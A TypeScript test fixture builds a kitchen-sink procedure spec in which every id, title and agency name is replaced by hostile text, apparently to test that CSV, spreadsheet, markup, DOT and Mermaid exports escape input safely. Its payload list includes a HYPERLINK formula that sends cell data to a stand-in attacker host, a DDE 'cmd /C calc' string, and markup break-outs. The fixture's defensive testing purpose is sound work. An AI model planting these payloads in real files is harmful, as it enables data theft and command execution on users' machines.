import type { FlowNode, ProcedureSpec } from '../../src/dsl/spec.ts';
import { kitchenSinkSpec } from './specs.ts';

/**
 * Text an attacker puts in a procedure's ids, titles and agency names: spreadsheet formulas
 * (OWASP's `=`, `+`, `-`, `@`, tab, carriage return), CSV separators and quotes, line breaks,
 * markup and attribute break-outs, XML and comment ends, and the characters that mean something to
 * DOT and Mermaid.
 */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd|\' /C calc\'!A0',
  '-2-2',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR',
  'a,b;c',
  'q"u"o\'te',
  'line\nbreak',
  '<x-evil a="1">',
  '"><x-evil b=1>',
  ']]><x-evil/><!--',
  '--> x [label=evil] -- {}|<>',
  '#58;%%{init}%% `code`',
  'back\\slash\\',
  '&amp; &#60;',
] as const;

/** `HOSTILE_TEXTS[i]` with `i` appended, so that ids built from the list stay unique. */
export const hostileText = (i: number): string => `${HOSTILE_TEXTS[i % HOSTILE_TEXTS.length]}${i}`;

/**
 * The kitchen-sink procedure (branch, consultation, parallel block, payment) with every id (the
 * procedure's, each agency's, each node's) and every title and agency name replaced by hostile text.
 * The structure is unchanged, so an export of it must have the same shape as the plain one.
 */
export function hostileSpec(): ProcedureSpec {
  const plain = kitchenSinkSpec();
  let n = 0;
  const next = () => hostileText(n++);
  const label = () => {
    const t = next();
    return { vi: t, en: t };
  };
  const agencyId = new Map(Object.keys(plain.agencies).map((a) => [a, next()]));
  const ag = (a: string) => agencyId.get(a) ?? a;
  const node = (f: FlowNode): FlowNode => {
    switch (f.kind) {
      case 'step':
        return { ...f, id: next(), agency: ag(f.agency), title: label() };
      case 'consult':
        return { ...f, id: next(), title: label(), lead: ag(f.lead), consulted: f.consulted.map(ag) };
      case 'excluded':
        return { ...f, id: next(), title: label(), party: ag(f.party) };
      case 'parallel':
        return { ...f, id: next(), title: label(), branches: f.branches.map((b) => b.map(node)) };
      case 'branch':
        return {
          ...f,
          id: next(),
          title: label(),
          cases: f.cases.map((c) => ({ ...c, flow: c.flow.map(node) })),
          ...(f.otherwise === undefined ? {} : { otherwise: { ...f.otherwise, flow: f.otherwise.flow.map(node) } }),
        };
    }
  };
  return {
    ...plain,
    id: next(),
    title: label(),
    agencies: Object.fromEntries(Object.entries(plain.agencies).map(([a, spec]) => [ag(a), { ...spec, name: label() }])),
    receipt: { ...plain.receipt, desk: ag(plain.receipt.desk) },
    flow: plain.flow.map(node),
  };
}
